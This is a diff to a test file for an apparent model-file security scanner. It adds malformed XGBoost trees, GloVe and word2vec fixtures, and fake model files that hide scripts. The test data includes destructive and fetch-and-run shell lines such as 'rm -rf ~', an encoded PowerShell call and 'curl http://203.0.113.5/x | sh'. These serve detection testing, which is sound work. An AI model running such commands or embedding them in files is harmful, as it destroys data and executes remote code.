@@ -361,6 +361,8 @@ def bad_trees():
            "arrays of different lengths")
     yield ("both.json", xgb_json(tree(), config={"class_name": "Lambda"}), (),
            "a configuration of something else beside the learner")
+    yield ("first.json", b'{"a": "' + b"x" * 9000 + b'", ' + xgb_json(tree(left=(1, 0, -1)))[1:], (),
+           "a long key in front of the learner")
     yield "loop.ubj", ub(xgb(tree(left=(1, 0, -1)))), "MDL295", "the same in UBJSON"
     yield "far.ubj", ub(xgb(tree(right=(2, -1, -1), left=(77, -1, -1)))), "MDL295", "and this"
     yield "cut.ubj", ub(xgb(tree()))[:-40], (), "cut short"
@@ -447,6 +449,8 @@ def bad_programs():
     yield "MODEL.PT", ELF, "MDL302", "in capitals"
     yield "model.onnx", b"#!/bin/sh\nrm -rf ~\n", "MDL302", "a script"
     yield "model.pkl", b"import os\nos.system('id')\n", "MDL302", "Python"
+    yield "model.ckpt", b"@echo off\r\npowershell -enc AAAA\r\n", "MDL302", "a batch file"
+    yield "weights.h5", b"\n  curl http://203.0.113.5/x | sh\n", "MDL302", "a shell script"
     yield ("llama.llamafile", b"MZqFpD='\n" + bytes(500) + ELF, "MDL302", "an APE program")
     yield "model.pte", pte("aten::add", "evil::run"), "MDL007", "an operator of somebody's"
     yield "save.pte", pte("aten::save"), {"MDL006", "MDL007"}, "an operator that writes files"
@@ -511,6 +515,11 @@ def good():
     yield "net-0000.params", mxnet(), (), "MXNet"
     yield "net-0001.params", mxnet(shape=(6,), data=12, kind=2), (), "halves"
     yield "news.bin", word2vec(), (), "word2vec"
+    yield ("glove.txt", b"".join(b"w%d %s\n" % (i, b" ".join(b"%.4f" % (i * 0.001 + j)
+                                                            for j in range(50)))
+                                 for i in range(60)), (), "GloVe: vectors in text")
+    yield ("wiki.vec", b"60 50\n" + b"".join(b"w%d %s\n" % (i, b" ".join(
+        b"%.4f" % (i * 0.001 + j) for j in range(50))) for i in range(60)), (), "the same, counted")
     yield "model.pte", pte("aten::add", "aten::mm.out", "quantized_decomposed::choose_qparams",
                            delegates=["XnnpackBackend"], inline=[b"xnnpack"]), (), "ExecuTorch"
     yield "model.ptl", ptl("aten::conv2d", "prepacked::conv2d_clamp_run"), (), "torch mobile"
